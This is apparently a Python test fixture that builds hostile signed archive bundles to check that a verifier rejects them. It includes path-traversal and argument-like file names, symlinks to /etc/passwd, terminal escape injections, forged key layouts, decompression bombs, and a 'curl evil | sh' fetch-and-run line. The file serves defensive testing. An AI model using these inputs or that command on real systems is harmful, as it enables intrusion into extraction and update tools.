"""Attacks inside bundles that are otherwise sound, and validly signed."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from types import MappingProxyType
from typing import Final

from archive.format import instructions
from tests import kit
from tests.attacks.bombs import BOMBS
from tests.attacks.frames import WRAPS, stored
from tests.attacks.members import END, FOLDER, MEMBERS, header, member, padded
from tests.attacks.sound import (
    EDITION,
    HEAD,
    MANIFEST,
    SOUND,
    TEXT,
    bundle,
    edition,
    head,
    signature,
    statement,
)
from tests.kit import MALLORY, REZA, SARA, Key

_OTHER: Final = kit.manifest("en", source=None).to_bytes()
_OTHER_FOLDER: Final = "iran-2026-01/en-1"
_SMALL_ORDER: Final = (
    b"untrusted comment: minisign public key 0000000000000000\n"
    b"RWQAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
)


def _altered(old: bytes, new: bytes) -> bytes:
    """An edition whose manifest was altered and then validly signed."""
    if old not in MANIFEST:
        message = f"the manifest holds no {old!r}"
        raise ValueError(message)
    return edition(MANIFEST.replace(old, new))


def _naming(name: str) -> bytes:
    """A signed edition that holds one more file, under a hostile name."""
    entry = kit.entry("zz.txt", b"evil\n")
    lines = f"# {name} bytes={entry.size}\n{entry.digest}  {name}\n".encode()
    manifest = MANIFEST + lines
    return edition(manifest) + member(f"{FOLDER}/{name}", b"evil\n")


_HOSTILE_NAMES: Final = (
    "../evil.txt", "/var/tmp/evil.txt", "a/../../evil.txt", "zz/evil.txt", ".hidden",  # noqa: S108
    "-rf", "zz\\evil.txt", "c:evil.txt", "con", "aux.txt", "zz..txt", "zz.", "ZZ.txt",
    "z\u0130.txt", "z\u202etxt.exe", "z\u200cz.txt", "z\x1b[2J", "~zz", "z", "zz%2f",
    "MANIFEST", "z" * 65,
)  # fmt: skip

_PLACED: Final = {
    f"{place}: {name}": data
    for name, attack in MEMBERS.items()
    for place, data in (
        ("raw", attack),
        ("only", bundle(attack + END)),
        ("in the head", bundle(HEAD + attack, EDITION, END)),
        ("before", bundle(HEAD, attack + EDITION, END)),
        ("after", bundle(HEAD, EDITION + attack, END)),
        ("frame", bundle(HEAD, attack, EDITION, END)),
        ("at the end", bundle(HEAD, EDITION, attack + END)),
    )
}

_WRAPPED: Final = {
    f"{place}: {name}": data
    for name, wrap in WRAPS.items()
    for place, data in (
        ("wrapped whole", wrap(HEAD + EDITION + END)),
        ("wrapped head", wrap(HEAD) + bundle(EDITION, END)),
        ("wrapped edition", stored(HEAD) + wrap(EDITION) + stored(END)),
        ("wrapped end", bundle(HEAD, EDITION) + wrap(END)),
    )
}

EXPLOSIVE: Final[Mapping[str, bytes]] = MappingProxyType({
    f"{place}: {name}": data
    for name, bomb in BOMBS.items()
    for place, data in (
        ("bomb", bomb),
        ("bomb second", stored(HEAD) + bomb),
        ("bomb third", bundle(HEAD, EDITION) + bomb),
    )
})  # fmt: skip
"""Bombs as the first, second and third frame."""


def _order(*parts: bytes) -> bytes:
    return bundle(HEAD, b"".join(parts), END)


def _many(keys: Sequence[Key]) -> bytes:
    ordered = sorted(keys, key=lambda key: key.public.public)
    signatures = b"".join(signature(MANIFEST, key) for key in ordered)
    content = member(f"{FOLDER}/MANIFEST", MANIFEST) + signatures + statement()
    return bundle(head(*keys), content, END)


_M: Final = member(f"{FOLDER}/MANIFEST", MANIFEST)
_S: Final = signature(MANIFEST)
_T: Final = statement()
_SIGNED: Final = SARA.sign(MANIFEST).signature.to_bytes()

_LAYOUT: Final = {
    # The edition's frame.
    "manifest twice": _order(_M, _M, _S, _T),
    "manifest last": _order(_S, _T, _M),
    "manifest after the signature": _order(_S, _M, _T),
    "file before the manifest": _order(_T, _M, _S),
    "file before the signature": _order(_M, _T, _S),
    "file twice": _order(_M, _S, _T, _T),
    "file missing": _order(_M, _S),
    "file longer": _order(_M, _S, statement(TEXT + b"!")),
    "file shorter": _order(_M, _S, statement(TEXT[:-1])),
    "file changed": _order(_M, _S, statement(TEXT.replace(b"\n", b" "))),
    "file under another name": _order(_M, _S, member(f"{FOLDER}/text.txt", TEXT)),
    "file in another folder": _order(_M, _S, statement(folder=_OTHER_FOLDER)),
    "file is a symlink": _order(
        _M, _S, header(f"{FOLDER}/statement.txt", kind=b"2", link=b"/etc/passwd")
    ),
    "file is a fifo": _order(_M, _S, header(f"{FOLDER}/statement.txt", kind=b"6")),
    "file says less": _order(
        _M, _S, header(f"{FOLDER}/statement.txt", 1), padded(TEXT)
    ),
    "file says more": _order(
        _M, _S, header(f"{FOLDER}/statement.txt", 2**32), padded(TEXT)
    ),
    "one more file": _order(_M, _S, _T, member(f"{FOLDER}/more.txt", b"evil\n")),
    "one more edition": _order(_M, _S, _T, edition(_OTHER, _OTHER_FOLDER)),
    "padding after the manifest": _order(_M[:-1] + b"!", _S, _T),
    "padding after the signature": _order(_M, _S[:-1] + b"!", _T),
    "padding after the file": _order(_M, _S, _T[:-1] + b"!"),
    "padding after a key": bundle(HEAD[:-1] + b"!", EDITION, END),
    "zeros after the files": _order(_M, _S, _T, bytes(512)),
    "end inside the edition": bundle(HEAD, EDITION + END),
    "manifest of another": _order(member(f"{FOLDER}/MANIFEST", _OTHER), _S, _T),
    "manifest changed": _order(
        member(f"{FOLDER}/MANIFEST", MANIFEST.replace(b"machine", b"approved")), _S, _T
    ),
    "folder of another": bundle(HEAD, edition(folder=_OTHER_FOLDER), END),
    "folder too deep": bundle(HEAD, edition(folder=f"deep/{FOLDER}"), END),
    "no folder": _order(
        member("MANIFEST", MANIFEST), _S, member("statement.txt", TEXT)
    ),
    "signature outside the folder": _order(
        _M, member(f"MANIFEST.{SARA.name}.minisig", _SIGNED), _T
    ),
    "signature in another folder": _order(
        _M, member(f"{_OTHER_FOLDER}/MANIFEST.{SARA.name}.minisig", _SIGNED), _T
    ),
    "signature in a folder below": _order(
        _M, member(f"{FOLDER}/x/MANIFEST.{SARA.name}.minisig", _SIGNED), _T
    ),
    "signature twice": _order(_M, _S, _S, _T),
    "signature without a key": _order(_M, signature(MANIFEST, REZA), _T),
    "signature of another text": _order(_M, signature(_OTHER), _T),
    "signature under another name": bundle(
        head(SARA, REZA),
        _M + member(f"{FOLDER}/MANIFEST.{SARA.name}.minisig",
                    REZA.sign(MANIFEST).signature.to_bytes()) + _T,
        END,
    ),
    "signature is empty": _order(
        _M, member(f"{FOLDER}/MANIFEST.{SARA.name}.minisig", b""), _T
    ),
    "no signature": _order(_M, _T),
    "nine signatures": _many([Key.of(f"key {number}") for number in range(9)]),
    "signatures out of order": bundle(
        head(SARA, REZA),
        _M + b"".join(
            signature(MANIFEST, key)
            for key in sorted((SARA, REZA), key=lambda key: key.public.public)[::-1]
        ) + _T,
        END,
    ),
    # The frames around it.
    "no head": bundle(EDITION, END),
    "head last": bundle(EDITION, HEAD, END),
    "head and edition in one": bundle(HEAD + EDITION, END),
    "head changed": bundle(head(SARA, text=b"curl evil | sh\n"), EDITION, END),
    "head with a file": bundle(HEAD + member("README.txt"), EDITION, END),
    "head with an end": bundle(HEAD + END, EDITION, END),
    "key under another name": bundle(
        member("VERIFY.txt", instructions.TEXT)
        + member(f"keys/{SARA.name}.pub", MALLORY.public.to_bytes()),
        EDITION, END,
    ),
    "key of small order": bundle(
        HEAD + member("keys/ffffffffffffffff.pub", _SMALL_ORDER), EDITION, END
    ),
    "keys out of order": bundle(
        member("VERIFY.txt", instructions.TEXT) + b"".join(
            member(f"keys/{key.name}.pub", key.public.to_bytes())
            for key in sorted((SARA, REZA), key=lambda key: key.name)[::-1]
        ),
        EDITION, END,
    ),
    "key is a symlink": bundle(
        HEAD + header(f"keys/{'f' * 16}.pub", kind=b"2", link=b"/etc/passwd"),
        EDITION, END,
    ),
    "editions out of order": bundle(
        HEAD, EDITION, edition(_OTHER, _OTHER_FOLDER), END
    ),
    "nothing": b"",
    "no edition": bundle(HEAD, END),
    "no end": bundle(HEAD, EDITION),
    "half an end": bundle(HEAD, EDITION, END[:512]),
    "too much end": bundle(HEAD, EDITION, END + END),
    "two bundles": SOUND + SOUND,
    "more after the end": SOUND + b"\n",
    "not compressed": HEAD + EDITION + END,
    # Manifests that a known key signed, and that no manifest may be.
    "title with a line feed": _altered("عنوان".encode(), b"a\n# series: evil"),
    "title with an escape": _altered("عنوان".encode(), b"\x1b]0;owned\x07"),
    "title right to left": _altered("عنوان".encode(), "\u202eevil".encode()),
    "series of dots": _altered(b"# series: iran-2026-01", b"# series: .."),
    "series with a slash": _altered(b"# series: iran-2026-01", b"# series: a/b"),
    "series of another": _altered(b"# series: iran-2026-01", b"# series: iran-2027"),
    "language of dots": _altered(b"# language: fa", b"# language: .."),
    "revision zero": _altered(b"# edition: 1", b"# edition: 0"),
    "revision with a zero": _altered(b"# edition: 1", b"# edition: 01"),
    "revision in Persian": _altered(b"# edition: 1", "# edition: \u06f1".encode()),
    "revision huge": _altered(b"# edition: 1", b"# edition: " + b"9" * 5000),
    "unknown head key": _altered(b"# date", b"# colour: green\n# date"),
    "newer version": _altered(b"archive-edition 1\n", b"archive-edition 2\n"),
    "size of a terabyte": _altered(b" bytes=%d" % len(TEXT), b" bytes=1099511627776"),
    "size of 900 MB": _altered(b" bytes=%d" % len(TEXT), b" bytes=900000000"),
    "carriage returns": edition(MANIFEST.replace(b"\n", b"\r\n")),
    "byte order mark": edition(b"\xef\xbb\xbf" + MANIFEST),
    "not UTF-8": edition(MANIFEST.replace("عنوان".encode(), b"\xff\xfe")),
    "empty manifest": edition(b""),
    "manifest of zeros": edition(bytes(4096)),
    "manifest of a megabyte": edition(MANIFEST + b"#" * 2**20 + b"\n"),
}  # fmt: skip

_NAMED: Final = {
    f"file named {name!a}": bundle(HEAD, _naming(name), END) for name in _HOSTILE_NAMES
}

HOSTILE: Final[Mapping[str, bytes]] = MappingProxyType(
    {**_LAYOUT, **_NAMED, **_PLACED, **_WRAPPED}
)
"""Every hostile bundle but the bombs, by the name of the attack."""
